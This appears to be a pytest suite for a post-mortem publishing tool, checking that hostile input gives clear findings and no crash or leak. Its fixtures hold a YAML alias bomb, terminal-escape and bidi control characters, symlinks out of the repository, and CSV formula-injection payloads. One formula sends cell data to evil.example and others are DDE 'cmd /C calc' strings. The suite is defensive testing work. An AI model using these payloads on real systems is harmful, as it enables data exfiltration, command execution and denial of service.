"""Hostile input: whatever a post-mortem holds, `postmortems check` answers quickly with a
located finding, and nothing it accepts can crash or poison the build.

Each test names the input it guards against: YAML alias bombs and other shapes that
would take minutes or gigabytes, numbers and dates beyond what the site can chart,
control characters on their way to the feed, the calendar and the terminal, formulas in
CSV cells, page names that collide, non-Latin titles, and symbolic links out of the
repository.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import EPOCH, make_project, run_cli
from mkdocs_postmortems.entry import slug
from mkdocs_postmortems.loader import link_problem
from mkdocs_postmortems.rules import catalogue

HEAD = """\
---
id: INC-2026-04-12-001
title: Checkout failing after deploy
date: 2026-04-12
severity: SEV4
status: published
summary: Checkout returned errors for ten minutes after a deploy.
services: [checkout]
"""
FOOT = "---\n## Summary\n\nCheckout failed.\n"
# Only the PM rules: these inputs are about the file, not its prose.
PM_ONLY = "      lint:\n        select: [PM]\n"
# A guard against hangs and blow-ups, not a speed assertion: the shapes below took
# minutes and gigabytes before the reader counted what it composes.
MEMORY = 400 << 20
TIMEOUT = 30


def pm(extra: str = "", head: str = HEAD) -> str:
    return head + extra + FOOT


def limited_check(
    tmp_path: Path, text: str | dict[str, str], config: str = PM_ONLY
) -> tuple[int, list[dict]]:
    """`postmortems check --format json` on one file (or several), in a process of at
    most 400 MB that is stopped after 30 s."""
    files = text if isinstance(text, dict) else {"2026/pm.md": text}
    project = make_project(tmp_path, files, config)

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))

    exe = Path(sys.executable).with_name("postmortems")
    result = subprocess.run(
        [str(exe), "check", "--format", "json", "--no-cache"],
        cwd=project,
        env={**os.environ, "SOURCE_DATE_EPOCH": EPOCH},
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        preexec_fn=limit,
    )
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    return result.returncode, json.loads(result.stdout)["findings"]


def only(findings: list[dict], code: str) -> dict:
    matching = [f for f in findings if f["code"] == code]
    assert len(matching) == 1, findings
    return matching[0]


# --- shapes that used to take minutes or gigabytes ------------------------------------------


def alias_bomb(levels: int = 9) -> str:
    """The "billion laughs": 600 bytes that stand for 9**9 strings."""
    lines = [
        "gaps:",
        "  detection:",
        '    - &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    ]
    for level in range(1, levels):
        lines.append(f"    - &a{level} [{','.join([f'*a{level - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


SHAPES = {
    # name: (front-matter lines, code, line, column, words of the message)
    "alias bomb": (alias_bomb(), "PM108", 15, 12, "more than 10,000 values"),
    "alias inside itself": ("tags: &t [a, *t]\n", "PM108", 9, 14, "inside the node it repeats"),
    "deep block nesting": (
        "gaps:\n  detection:\n" + "".join("  " * (i + 2) + "-\n" for i in range(100)),
        "PM108",
        73,
        129,
        "deeper than 64 levels",
    ),
    "deep flow nesting": (
        "gaps: {detection: " + "[" * 100_000 + "]" * 100_000 + "}\n",
        "PM105",
        9,
        1017,
        "exceeded maximum nesting depth",
    ),
    "huge flow sequence": (
        "tags: [" + ",".join(["a"] * 200_000) + "]\n",
        "PM108",
        9,
        19972,
        "more than 10,000 values",
    ),
    "many keys": (
        "".join(f"k{i}: 1\n" for i in range(80_000)),
        "PM108",
        5001,
        1,
        "more than 10,000 values",
    ),
    "5,000-digit integer": (
        "impact: {users_affected: " + "9" * 5000 + "}\n",
        "PM208",
        9,
        26,
        "a number of 5,000 characters is out of range",
    ),
    "long line": ("summary2: " + "x" * 900_000 + "\n", "PM202", 9, 1, "unknown field `summary2`"),
}


@pytest.mark.parametrize("shape", list(SHAPES))
def test_hostile_front_matter_is_a_located_finding_within_limits(
    tmp_path: Path, shape: str
) -> None:
    lines, code, line, column, words = SHAPES[shape]
    text = pm(lines)
    assert len(text.encode()) <= 1_000_000
    returncode, findings = limited_check(tmp_path, text)
    found = only(findings, code)
    assert (found["line"], found["column"]) == (line, column), found
    assert words in found["message"], found
    assert returncode == 1


def test_thousands_of_unknown_keys_within_the_limits(tmp_path: Path) -> None:
    """Under the value limit, each unknown key is its own finding (located by an index,
    not a scan per key)."""
    _, findings = limited_check(tmp_path, pm("".join(f"k{i}: 1\n" for i in range(4990))))
    unknown = [f for f in findings if f["code"] == "PM202"]
    assert len(unknown) == 4990
    last = unknown[-1]
    assert (last["line"], last["column"]) == (4998, 1)
    assert last["message"].startswith("unknown field `k4989`; known fields here: id, title")


def test_front_matter_over_a_megabyte_is_refused(tmp_path: Path) -> None:
    _returncode, findings = limited_check(tmp_path, pm("notes: " + "x" * 1_000_001 + "\n"))
    found = only(findings, "PM108")
    assert (found["line"], found["column"]) == (1, 1)
    assert "1,000,206 characters long; the limit is 1,000,000" in found["message"]


# --- small cases, one file each, checked in one run -----------------------------------------

ESCAPED_TITLE = pm().replace(
    "title: Checkout failing after deploy", 'title: "Checkout \\e[31mfailing"'
)
CASES = {
    # file name: (text, code, line, column, message: exact, or its start when it ends in …)
    "aliases": (
        pm("tags: &t [deploy]\nauthors: *t\ngaps:\n  detection: [No alert on queue depth]\n"),
        None,
        0,
        0,
        "",
    ),
    "anchor": (
        pm("tags: [&x a]\nauthors: [&x b]\n"),
        "PM105",
        10,
        11,
        "the front-matter is not valid YAML: the anchor `&x` is defined twice (first at "
        "line 9); rename one…",
    ),
    "inf": (
        pm("impact: {duration_minutes: .inf}\n"),
        "PM208",
        9,
        28,
        "`impact.duration_minutes`: inf is not a finite number; write the figure, or leave "
        "the key out",
    ),
    "nan": (
        pm("impact: {slo_budget_pct: .nan}\n"),
        "PM208",
        9,
        26,
        "`impact.slo_budget_pct`: nan is not a finite number…",
    ),
    "users": (
        pm("impact: {users_affected: 10000000000000}\n"),
        "PM208",
        9,
        26,
        "`impact.users_affected`: 10000000000000 is out of range; write at most 1,000,000,000,000",
    ),
    "due": (
        pm("action_items:\n  - {id: AI-1, title: Add an alert, owner: '@a', due: 9999-12-31}\n"),
        "PM208",
        10,
        55,
        "`action_items[0].due`: `9999-12-31` is outside 1970-01-01 to 2200-12-31; check the "
        "year (dates outside this window cannot be charted or converted)",
    ),
    "review": (
        pm("postmortem_date: 0001-01-01T00:30:00+01:00\n"),
        "PM208",
        9,
        18,
        "`postmortem_date`: `0001-01-01T00:30:00+01:00` is outside 1970-01-01 to 2200-12-31…",
    ),
    "resolved": (
        pm("resolved: 2201-01-01T00:00:00Z\n"),
        "PM208",
        9,
        11,
        "`resolved`: `2201-01-01T00:00:00Z` is outside 1970-01-01 to 2200-12-31…",
    ),
    "date": (
        pm(head=HEAD.replace("2026-04-12\n", "9999-12-31\n")),
        "PM208",
        4,
        7,
        "`date`: `9999-12-31` is outside 1970-01-01 to 2200-12-31…",
    ),
    "pattern": (
        pm('tags: [" deploy"]\n'),
        "PM208",
        9,
        8,
        "`tags[0]`: ` deploy` must not start or end with spaces",
    ),
    "action-id": (
        pm("action_items:\n  - {id: A1, title: X}\n"),
        "PM208",
        10,
        10,
        "`action_items[0].id`: `A1` is not an action-item id; write letters, a dash and a "
        "number, e.g. `AI-1`",
    ),
    "escape": (
        ESCAPED_TITLE,
        "PM110",
        3,
        8,
        "control character U+001B (ESC) in `Checkout \\x1b[31mfailing`; delete it, or write "
        "what it stands for in words",
    ),
    "bidi": (
        pm().replace("Checkout failing", "Checkout \u202egniliaf"),
        "PM110",
        3,
        8,
        "control character U+202E (right-to-left override) in `Checkout \\u202egniliaf after …`; "
        "delete it, or write what it stands for in words",
    ),
    "body-bidi": (  # the narrative too: shown reordered on the page and in review
        pm().replace("Checkout failed.", "Checkout \u202edeliaf."),
        "PM110",
        12,
        10,
        "control character U+202E (right-to-left override) in `Checkout \\u202edeliaf.`; "
        "delete it, or write what it stands for in words",
    ),
    "body-nul": (
        pm().replace("Checkout failed.", "Checkout\x00 failed."),
        "PM110",
        12,
        9,
        "control character U+0000 (NUL) in `Checkout\\x00 failed.`; delete it, or write "
        "what it stands for in words",
    ),
    "raw": (
        pm().replace("Checkout failing", "Checkout\x08 failing"),
        "PM110",
        3,
        16,
        "control character U+0008 (backspace) in the front-matter; delete it (it is "
        "invisible in most editors)",
    ),
}


@pytest.fixture(scope="module")
def cases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict]]:
    """Every case as its own file (distinct ids), one limited `check` over all of them."""
    files = {}
    for number, (name, (text, *_)) in enumerate(CASES.items(), start=1):
        files[f"2026/{name}.md"] = text.replace(
            "INC-2026-04-12-001", f"INC-2026-04-12-{number:03d}"
        )
    _, findings = limited_check(tmp_path_factory.mktemp("cases"), files)
    by_file: dict[str, list[dict]] = {name: [] for name in CASES}
    for finding in findings:
        by_file[Path(finding["path"]).stem].append(finding)
    return by_file


@pytest.mark.parametrize("name", list(CASES))
def test_small_cases_give_their_finding(cases: dict[str, list[dict]], name: str) -> None:
    _, code, line, column, message = CASES[name]
    if code is None:
        assert cases[name] == []  # aliases within the limits read as before
        return
    found = only(cases[name], code)
    assert (found["line"], found["column"], found["severity"]) == (line, column, "error")
    if message.endswith("…"):
        assert found["message"].startswith(message[:-1]), found["message"]
    else:
        assert found["message"] == message


# --- terminal, CSV, feed and calendar -------------------------------------------------------

HOSTILE_TITLE = "Checkout \x1b[2J\x1b[31mfailing\x07 \u202eafter\x9b deploy"
HOSTILE_PMS = {
    "2026/a.md": """---
id: INC-2026-04-12-001
title: "Checkout \\e[2J\\e[31mfailing\\a \\u202eafter\\x9b deploy"
date: 2026-04-12
severity: SEV4
status: published
summary: "Checkout returned errors.\\e]0;owned\\a"
services: [checkout, index]
tags: [deploy]
authors: ["Priya\\x00 Nair"]
action_items:
  - {id: AI-1, title: '=HYPERLINK("http://evil.example/?x="&A1,"click")', owner: "@a",
     due: 2026-05-01, status: open}
  - {id: AI-2, title: "+cmd|' /C calc'!A0", owner: "@a", due: 2026-05-02, status: open}
  - {id: AI-3, title: "@SUM(1+1)*cmd|' /C calc'!A0", owner: "-2+3", due: 2026-05-03}
  - {id: AI-4, title: "\\e[31mRed\\e[0m alert on the queue", owner: "@b", due: 2026-05-04}
---
## Summary

Checkout failed.
""",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_project(tmp_path_factory.mktemp("hostile"), HOSTILE_PMS, PM_ONLY)


def test_actions_csv_neutralises_formulas(hostile: Path) -> None:
    result = run_cli("actions", "--format", "csv", cwd=hostile)
    assert result.returncode == 0, result.stderr
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert rows["AI-1"]["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert rows["AI-2"]["title"] == "'+cmd|' /C calc'!A0"
    assert rows["AI-3"]["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["AI-3"]["owner"] == "'-2+3"
    assert rows["AI-1"]["due"] == "2026-05-01"  # ordinary cells are unchanged
    assert rows["AI-1"]["postmortem"] == "INC-2026-04-12-001"


def test_actions_json_keeps_the_text_as_written(hostile: Path) -> None:
    result = run_cli("actions", "--format", "json", cwd=hostile)
    titles = {r["id"]: r["title"] for r in json.loads(result.stdout)}
    assert titles["AI-1"].startswith("=HYPERLINK(")
    assert titles["AI-4"] == "\x1b[31mRed\x1b[0m alert on the queue"


def test_terminal_output_shows_escapes_instead_of_obeying_them(hostile: Path) -> None:
    table = run_cli("actions", cwd=hostile)
    assert table.returncode == 0, table.stderr
    assert "\x1b" not in table.stdout
    assert "\\x1b[31mRed\\x1b[0m alert on the queue" in table.stdout
    found = run_cli("search", "checkout", cwd=hostile)
    assert found.returncode == 0, found.stderr
    assert not any(c in found.stdout for c in "\x1b\x07\x9b\u202e")
    assert "Checkout \\x1b[2J\\x1b[31mfailing\\x07 \\u202eafter\\x9b deploy" in found.stdout, (
        found.stdout
    )
    check = run_cli("check", "--no-cache", cwd=hostile)
    assert "\x1b" not in check.stdout and "\x00" not in check.stdout
    assert "PM110" in check.stdout
    github = run_cli("check", "--no-cache", "--format", "github", cwd=hostile)
    assert "\x1b" not in github.stdout


def test_feed_and_calendar_carry_no_control_characters(hostile: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    exe = Path(sys.executable).with_name("mkdocs")
    result = subprocess.run(  # not --strict: the file has findings, the build goes on
        [str(exe), "build", "-q", "-d", str(site)],
        cwd=hostile,
        env={**os.environ, "SOURCE_DATE_EPOCH": EPOCH},
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    feed = ET.parse(site / "feed.xml").getroot()  # well-formed XML 1.0
    ns = {"a": "http://www.w3.org/2005/Atom"}
    title = feed.find("a:entry/a:title", ns).text
    assert title == "SEV4 · Checkout \ufffd[2J\ufffd[31mfailing\ufffd \u202eafter\ufffd deploy"
    assert feed.find("a:entry/a:author/a:name", ns).text == "Priya\ufffd Nair"
    ics = (site / "action-items.ics").read_text(encoding="utf-8")
    assert not any(ord(c) < 32 and c not in "\r\n" for c in ics)
    assert "\ufffd[31mRed\ufffd[0m alert on the queue" in ics
    # a service named `index` has its own page; the list of services stays the list
    listing = (site / "services" / "index.html").read_text(encoding="utf-8")
    assert 'href="../services/index-1/"' in listing or 'href="index-1/"' in listing
    assert (site / "services" / "index-1" / "index.html").exists()


# --- page names ---------------------------------------------------------------------------


def test_service_and_tag_spellings_that_share_a_page(tmp_path: Path) -> None:
    files = {
        "2026/a.md": pm("tags: [DNS]\n", head=HEAD.replace("[checkout]", "[Payments]")),
        "2026/b.md": pm(head=HEAD.replace("001", "002").replace("[checkout]", "[payments]")),
        "2026/c.md": pm(
            "tags: [dns]\n",
            head=HEAD.replace("001", "003").replace("[checkout]", "[web, payments]"),
        ),
    }
    project = make_project(tmp_path, files, PM_ONLY)
    result = run_cli("check", "--no-cache", "--format", "json", cwd=project)
    findings = json.loads(result.stdout)["findings"]
    assert {f["code"] for f in findings} == {"PM304"}, findings
    assert [(f["path"], f["line"], f["column"], f["message"]) for f in findings] == [
        (
            "postmortems/2026/a.md",
            8,
            12,
            "service `Payments` and `payments` (postmortems/2026/b.md:8) would share the "
            "page services/payments/; write `payments` as every other post-mortem does",
        ),
        (  # a tie: the spelling met first stays
            "postmortems/2026/c.md",
            9,
            8,
            "tag `dns` and `DNS` (postmortems/2026/a.md:9) would share the page tags/dns/; "
            "write `DNS` as every other post-mortem does",
        ),
    ]
    assert result.returncode == 1


def test_slug_keeps_ascii_and_transliterates_the_rest() -> None:
    assert slug("EU logins failing after auth-service deploy") == (
        "eu-logins-failing-after-auth-service-deploy"
    )
    assert slug("api-gateway") == "api-gateway"
    assert slug("Café Ops") == "cafe-ops"
    assert slug("Straße") == "strasse"
    assert slug("日本語") == "wgv71a119e"  # Punycode: ASCII, short, one per name
    assert slug("中文") != slug("日本語")
    assert slug("日本語 DNS outage") == "dns-outage-wgv71a119e"
    assert slug("index") == slug("Index") == "index-1"  # never the listing's own page
    assert slug("---") == "x"


def test_new_with_a_title_in_another_script(tmp_path: Path) -> None:
    project = make_project(tmp_path, {})
    result = run_cli(
        "new",
        "日本語",
        "--severity",
        "SEV3",
        "--service",
        "auth",
        "--date",
        "2026-04-12",
        cwd=project,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "postmortems/2026/2026-04-12-incident-001.md"
    accents = run_cli(
        "new",
        "Panne à Zürich",
        "--severity",
        "SEV3",
        "--service",
        "auth",
        "--date",
        "2026-04-12",
        cwd=project,
    )
    assert accents.stdout.strip() == "postmortems/2026/2026-04-12-panne-a-zurich.md"


# --- symbolic links -----------------------------------------------------------------------


def test_links_out_of_the_repository_are_not_read(tmp_path: Path) -> None:
    project = make_project(tmp_path / "repo", {"2026/ok.md": pm()}, PM_ONLY)
    (project / ".git").mkdir()
    outside = tmp_path / "outside"
    (outside / "folder").mkdir(parents=True)
    secret = pm(head=HEAD.replace("001", "009")).replace("Checkout failed.", "SECRET TEXT")
    (outside / "secret.md").write_text(secret, encoding="utf-8")
    (outside / "folder" / "other.md").write_text(secret, encoding="utf-8")
    docs = project / "postmortems"
    (docs / "2026" / "link.md").symlink_to(outside / "secret.md")
    (docs / "linked").symlink_to(outside / "folder")
    (docs / "2026" / "dangling.md").symlink_to(docs / "2026" / "nowhere.md")
    (docs / "2026" / "inside.md").symlink_to(docs / "2026" / "ok.md")  # fine: in the repo
    result = run_cli("check", "--no-cache", "--format", "json", cwd=project)
    assert "Traceback" not in result.stderr, result.stderr
    output = json.loads(result.stdout)
    assert "SECRET" not in result.stdout and "INC-2026-04-12-009" not in result.stdout
    links = {f["path"]: f for f in output["findings"] if f["code"] == "PM109"}
    assert sorted(links) == [
        "postmortems/2026/dangling.md",
        "postmortems/2026/link.md",
        "postmortems/linked",
    ]
    link = links["postmortems/2026/link.md"]
    assert (link["line"], link["column"]) == (1, 1)
    assert link["message"] == (
        "`link.md` is a symbolic link outside the repository; it is not read or published. "
        "Copy what it points at into the repository, or remove the link"
    )
    assert links["postmortems/2026/dangling.md"]["message"].startswith(
        "`dangling.md` is a symbolic link to something that does not exist"
    )
    # the link inside the repository is read like any file (and its id is a duplicate)
    assert any(
        f["code"] == "PM301" and f["path"] == "postmortems/2026/inside.md"
        for f in output["findings"]
    )


def test_link_problem_for_files_mkdocs_collects(tmp_path: Path) -> None:
    """MkDocs follows links itself: the plugin asks about each file it collected."""
    repo = tmp_path / "repo"
    docs = repo / "docs"
    (docs / "a").mkdir(parents=True)
    (repo / ".git").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.md").write_text("x")
    (docs / "a" / "real.md").write_text("x")
    (docs / "out").symlink_to(tmp_path / "elsewhere")
    assert link_problem(docs / "a" / "real.md", docs) is None
    assert "in a linked folder that leads outside" in (
        link_problem(docs / "out" / "x.md", docs) or ""
    )
    assert "outside the repository" in (link_problem(docs / "out", docs) or "")


# --- the catalogue ------------------------------------------------------------------------


@pytest.mark.parametrize("code", ["PM108", "PM109", "PM110", "PM304"])
def test_new_codes_are_explained_with_example_and_rewrite(code: str) -> None:
    rule = {r.code: r for r in catalogue()}[code]
    assert rule.explanation and rule.example and rule.rewrite
    result = run_cli("rules", code)
    assert result.returncode == 0 and code in result.stdout


def test_the_build_publishes_no_link_out_of_the_repository(tmp_path: Path) -> None:
    """MkDocs collects and copies linked files itself: the plugin takes them out first,
    and a dangling link is a finding, not a traceback."""
    project = make_project(tmp_path / "repo", {"2026/ok.md": pm()}, PM_ONLY)
    (project / ".git").mkdir()
    outside = tmp_path / "outside"
    (outside / "folder").mkdir(parents=True)
    (outside / "secret.md").write_text("# SECRET TEXT\n", encoding="utf-8")
    (outside / "folder" / "other.md").write_text("# SECRET TEXT\n", encoding="utf-8")
    (outside / "secret.png").write_bytes(b"SECRET BYTES")
    docs = project / "postmortems"
    (docs / "notes.md").symlink_to(outside / "secret.md")
    (docs / "logo.png").symlink_to(outside / "secret.png")
    (docs / "linked").symlink_to(outside / "folder")
    (docs / "gone.md").symlink_to(docs / "nowhere.md")
    site = tmp_path / "site"
    exe = Path(sys.executable).with_name("mkdocs")
    result = subprocess.run(
        [str(exe), "build", "-d", str(site)],
        cwd=project,
        env={**os.environ, "SOURCE_DATE_EPOCH": EPOCH},
        capture_output=True,
        text=True,
    )
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    assert result.returncode == 0, result.stderr[-2000:]
    published = [p for p in site.rglob("*") if p.is_file()]
    assert not any(b"SECRET" in p.read_bytes() for p in published)
    assert not (site / "logo.png").exists() and not (site / "linked").exists()
    for name in ("notes.md", "logo.png", "gone.md"):
        assert f"postmortems/{name}:1:1 PM109 `{name}` is a symbolic link" in result.stderr
    assert "postmortems/linked/other.md:1:1 PM109 `other.md` is in a linked folder" in (
        result.stderr
    )


BODY_SHAPES = {
    # each about 1 MB of body that a rule used to walk once per finding or per heading
    "blame sentences": "The engineer forgot to rotate the key. " * 26_000,
    "ignore-section comments": "## Notes\n<!-- postmortems: ignore-section=BL101 -->\n" * 19_000,
    "headings": "## Root cause\n" * 70_000,
    "unclosed redaction marks": "text <!-- redact --> more\n" * 38_000,
    "money and handles": "We lost $12,000 while @sam waited. " * 28_000,
}


@pytest.mark.parametrize("shape", sorted(BODY_SHAPES))
def test_a_megabyte_of_body_is_checked_within_bounds(tmp_path: Path, shape: str) -> None:
    """A guard against quadratic passes over a body (each was one before), not a timing."""
    text = HEAD.replace("status: published", "status: published\nvisibility: public") + FOOT
    _, findings = limited_check(tmp_path, text + BODY_SHAPES[shape], config="")  # every rule
    assert all(f["path"] == "postmortems/2026/pm.md" for f in findings)
